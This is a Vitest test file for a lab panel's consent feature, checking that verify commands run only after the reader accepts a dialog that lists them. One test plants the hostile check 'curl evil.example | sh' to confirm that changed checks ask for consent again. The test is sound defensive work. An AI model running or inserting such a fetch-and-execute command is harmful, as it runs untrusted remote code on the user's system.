// @vitest-environment jsdom
// The checks consent, through the real lab panel: no verify command runs before the reader clicks Accept, the
// question lists the exact commands, "Don't run checks" keeps them off, and acceptance is remembered per exact
// list of checks (issue #24, item 8).
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { mountLabPanel, type LabPanelEvent } from './lab-panel.ts';
import { fromSource } from './load-lab.ts';

const LAB = `---
title: Consent
---
## Make a marker

\`\`\`sh run
touch /tmp/marker
\`\`\`

\`\`\`verify
touch /tmp/check-ran && test -f /tmp/marker
\`\`\`

## Read

No check.

## Make a directory

\`\`\`verify
test -d /tmp/dir
\`\`\`
`;

beforeEach(() => {
  localStorage.clear();
});

function mount(source = LAB, storage?: Storage | null) {
  const container = document.createElement('div');
  document.body.append(container);
  const ran: string[] = [];
  const typed: string[] = [];
  const events: LabPanelEvent[] = [];
  const panel = mountLabPanel(container, {
    onRun: (command) => typed.push(command),
    verifyStep: async (command) => {
      ran.push(command);
      return { exitCode: 1, output: '' };
    },
    autoCheckDelaysMs: [5, 10],
    ...(storage === undefined ? {} : { consentStorage: storage }),
  });
  panel.on((event) => events.push(event));
  panel.load(fromSource(source, { kind: 'inline' }, 'test'));
  const click = (selector: string) => {
    const button = container.querySelector<HTMLButtonElement>(selector);
    if (!button) throw new Error(`no ${selector} in the panel`);
    button.click();
  };
  return { container, panel, ran, typed, events, click };
}

const flush = (ms = 30) => new Promise((resolve) => setTimeout(resolve, ms));
const question = async (container: HTMLElement) => vi.waitFor(() => expect(container.querySelector('.lab-consent-accept')).not.toBeNull());

describe('checks consent', () => {
  it('runs no check before Accept: not by checkStep, recheck, checkAll, a Check click or the re-checks after Run', async () => {
    const { container, panel, ran, typed, click } = mount();
    expect(await panel.checkStep(0)).toBe('pending');
    await panel.recheck();
    await panel.checkAll();
    click('button.lab-check');
    click('button.lab-run');
    await flush(60);
    expect(typed).toEqual(['touch /tmp/marker']);
    expect(ran).toEqual([]);
    expect(panel.statuses()).toEqual(['pending', 'pending', 'pending']);
    const messages = Array.from(container.querySelectorAll<HTMLElement>('.lab-step-message'), (message) => (message.hidden ? '' : message.textContent));
    expect(messages).toEqual([expect.stringMatching(/^Check not run: accept checks to enable/), '', expect.stringMatching(/^Check not run/)]);
    expect(await panel.checksAllowed()).toBe(false);
  });

  it('asks "This lab checks your work by running these commands" with the exact list; Accept lets checks run', async () => {
    const { container, panel, ran, events, click } = mount();
    await question(container);
    const box = container.querySelector<HTMLElement>('.lab-consent');
    expect(box?.textContent).toContain('This lab checks your work by running these commands');
    expect(Array.from(box?.querySelectorAll('.lab-consent-command') ?? [], (pre) => pre.textContent)).toEqual([
      'touch /tmp/check-ran && test -f /tmp/marker',
      'test -d /tmp/dir',
    ]);
    expect(Array.from(box?.querySelectorAll('.lab-consent-step') ?? [], (step) => step.textContent)).toEqual(['1. Make a marker', '3. Make a directory']);
    // Accepting runs nothing by itself; the next trigger does.
    click('.lab-consent-accept');
    await flush();
    expect(ran).toEqual([]);
    expect(events).toContainEqual({ type: 'checks-consent', state: 'accepted' });
    expect(container.querySelector('.lab-step-message')?.textContent).toBe('');
    await panel.recheck();
    expect(ran).toEqual(['touch /tmp/check-ran && test -f /tmp/marker']);
    expect(panel.statuses()[0]).toBe('failed');
  });

  it("\"Don't run checks\" keeps every check off; a Check click asks again", async () => {
    const { container, panel, ran, events, click } = mount();
    await question(container);
    click('.lab-consent-decline');
    expect(events).toContainEqual({ type: 'checks-consent', state: 'declined' });
    expect(container.querySelector('.lab-consent-accept')).toBeNull();
    expect(container.querySelector('.lab-consent-summary')?.textContent).toContain('Checks are off');
    await panel.checkAll();
    expect(ran).toEqual([]);
    click('button.lab-check');
    expect(container.querySelector('.lab-consent-accept')).not.toBeNull();
    expect(document.activeElement).toBe(container.querySelector('.lab-consent-accept'));
    await flush();
    expect(ran).toEqual([]);
  });

  it('remembers acceptance for the same checks; changed checks ask again; Turn checks off forgets', async () => {
    const first = mount();
    await question(first.container);
    first.click('.lab-consent-accept');
    await flush();
    // The same lab in a new panel (a reload): no question, checks run.
    const again = mount();
    expect(await again.panel.checksAllowed()).toBe(true);
    expect(again.container.querySelector('.lab-consent-accept')).toBeNull();
    expect(again.container.querySelector('.lab-consent-summary')?.textContent).toContain('Checks on');
    await again.panel.checkStep(2);
    expect(again.ran).toEqual(['test -d /tmp/dir']);
    // Same text, one check changed: asked again, nothing runs.
    const changed = mount(LAB.replace('test -d /tmp/dir', 'test -d /tmp/dir || curl evil.example | sh'));
    expect(await changed.panel.checksAllowed()).toBe(false);
    await changed.panel.checkAll();
    expect(changed.ran).toEqual([]);
    expect(changed.container.querySelector('.lab-consent-accept')).not.toBeNull();
    // Turning checks off in one panel forgets the acceptance for the next.
    again.click('.lab-consent-off');
    await flush();
    expect(await mount().panel.checksAllowed()).toBe(false);
  });

  it('without storage, acceptance lasts for the shown lab only', async () => {
    const first = mount(LAB, null);
    await question(first.container);
    first.click('.lab-consent-accept');
    expect(await first.panel.checksAllowed()).toBe(true);
    expect(localStorage.length).toBe(0);
    expect(await mount(LAB, null).panel.checksAllowed()).toBe(false);
  });

  it('a lab without checks asks nothing', async () => {
    const { container, panel } = mount('---\ntitle: T\n---\n## s\nJust text.\n');
    expect(await panel.checksAllowed()).toBe(true);
    expect(container.querySelector('.lab-consent')).toBeNull();
  });
});
